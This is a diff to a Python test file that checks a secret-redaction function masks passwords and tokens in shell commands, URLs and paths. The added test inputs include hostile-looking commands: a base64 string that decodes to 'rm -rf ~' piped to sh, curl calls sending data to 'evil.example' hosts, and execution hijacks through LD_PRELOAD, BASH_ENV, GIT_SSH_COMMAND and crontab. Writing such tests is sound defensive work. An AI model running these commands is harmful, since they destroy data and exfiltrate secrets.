@@ -31,6 +31,8 @@ MARK = re.compile(r"\[redacted literal:[a-z0-9_]+\]")
         ("PGPASSWORD=hunter2hunter psql", "PGPASSWORD=[redacted literal:password] psql"),
         (f"echo {PLAIN} >> log", "echo [redacted literal:plain] >> log"),
         (f"mysql -p'{ODD}' shop", "mysql -p'[redacted literal:odd]' shop"),
+        (f"tool --api-token {TOKEN} x", "tool --api-token [redacted literal:github_token] x"),
+        (f"curl https://a.example/{TOKEN}", "curl https://a.example/[redacted literal:github_token]"),
         (f'mysql "-p{ODD}" shop', 'mysql "-p[redacted literal:odd]" shop'),
     ],
 )
@@ -88,6 +90,42 @@ def test_a_literal_is_hidden_and_marked(command: str, shown: str) -> None:
         f"bash -c 'ls; {PLAIN} x'",
         f"find . -exec {PLAIN} +",
         f"mysql -p{ODD} shop",
+        "DB_PASSWORD=./kT9vQ2xLw81m; $DB_PASSWORD",
+        "export SECRET_KEY=kT9vQ2xLw81m.example; curl -d @x https://${SECRET_KEY}/",
+        "API_TOKEN=cm0gLXJmIH4K81; echo $API_TOKEN | base64 -d | sh",
+        "echo password=cm0gLXJmIH4K81 | base64 -d | sh",
+        "PASSWORD=kT9vQ2xLw81m.sh python3 -c x",
+        "python3 --password kT9vQ2xLw81m.py",
+        "rm -rf --token /home/kT9vQ2xLw81m",
+        *(
+            f"{start}{TOKEN}{end}"
+            for start, end in (
+                *(
+                    ("python3 ", ""),
+                    ("node ./", ""),
+                    ("make -f ", ""),
+                    ("npx ", ""),
+                    ("pip install ", ""),
+                    ("uv run ", ""),
+                ),
+                *(("rm -rf ", ""), ("cat x > ", ""), ("set -- ", "; $1"), ("for i in ", "; do $i; done")),
+                *(("printf -v x %s ", "; $x"), ("LD_PRELOAD=./", " ls"), ("BASH_ENV=", " bash"), ("PATH=/x:", " ls")),
+                *(("GIT_SSH_COMMAND=", " git fetch"), ("git -c core.pager=", " log"), ("tar --to-command=", " -xf a")),
+                *(
+                    ("rsync -e ", " a b"),
+                    ("enable -f ", " x"),
+                    ("hash -p ./", " ls"),
+                    ("crontab ", ""),
+                    ("tee keys/", ""),
+                ),
+                *(
+                    ("curl https://", ".evil.example/"),
+                    ("curl https://", ":1/"),
+                    ("curl https://me@", "/"),
+                    ("curl ", ""),
+                ),
+            )
+        ),
         "echo qwertyui op123456",
         "echo qwertyui\nop123456",
     ],
@@ -181,6 +219,29 @@ def test_bash_takes_what_is_hidden_as_it_is(tmp_path) -> None:
         assert (first.stdout.replace(PLAIN, other), first.returncode) == (second.stdout, second.returncode), command
         seen += 1
     assert seen > 50
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        (f"https://{TOKEN}.evil.example/", f"https://{TOKEN}.evil.example/"),
+        (f"https://{TOKEN}@a.example/", "https://[redacted:github_token]@a.example/"),
+        (f"https://a.example/{TOKEN}", "https://a.example/[redacted:github_token]"),
+        (f"https://a.example/?q={PLAIN}", "https://a.example/?q=[redacted:plain]"),
+        (f"https://{PLAIN}.evil.example/", "https://[redacted:plain].evil.example/"),
+        (f"x/{TOKEN}/y.py", f"x/{TOKEN}/y.py"),
+        (f"x/{PLAIN}/y.py", "x/[redacted:plain]/y.py"),
+    ],
+)
+def test_a_person_sees_where_a_path_or_an_address_leads(value: str, shown: str) -> None:
+    kind = "url" if "://" in value else "path"
+    assert redact_arguments(SINK, {"place": value}, [Operand(kind, value, "read")]) == {"place": shown}
+    assert TOKEN not in str(redact_arguments(SINK, {"place": value}, is_asked=False))
+
+
+def test_a_log_hides_more_of_a_command_than_a_question() -> None:
+    assert redact_arguments(SINK, {"command": f"echo {TOKEN}"}, is_asked=False) != {"command": f"echo {TOKEN}"}
+    assert redact_arguments(SINK, {"command": f"echo {TOKEN}"}) == {"command": f"echo {TOKEN}"}
 
 
 def test_a_command_is_known_by_its_operand_or_its_name() -> None:
